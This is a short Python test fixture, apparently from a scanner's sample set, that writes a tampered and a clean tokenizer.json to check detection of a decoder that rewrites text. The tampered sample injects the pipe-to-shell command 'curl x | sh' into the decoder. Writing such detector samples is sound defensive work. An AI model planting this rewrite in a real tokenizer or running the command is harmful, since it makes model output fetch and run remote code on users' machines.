"""Samples of `tokenizer-rewrites-text`."""

from __future__ import annotations

import json
from pathlib import Path

from wordmodels import replace, tokenizer

EXPECT = {"fault": "rewrite", "what": "decoder", "severity": "medium"}


def bad(folder: Path) -> str:
    changed = tokenizer(decoder=replace("curl x | sh"))
    (folder / "tokenizer.json").write_text(json.dumps(changed))
    return "tokenizer.json"


def good(folder: Path) -> None:
    (folder / "tokenizer.json").write_text(json.dumps(tokenizer()))
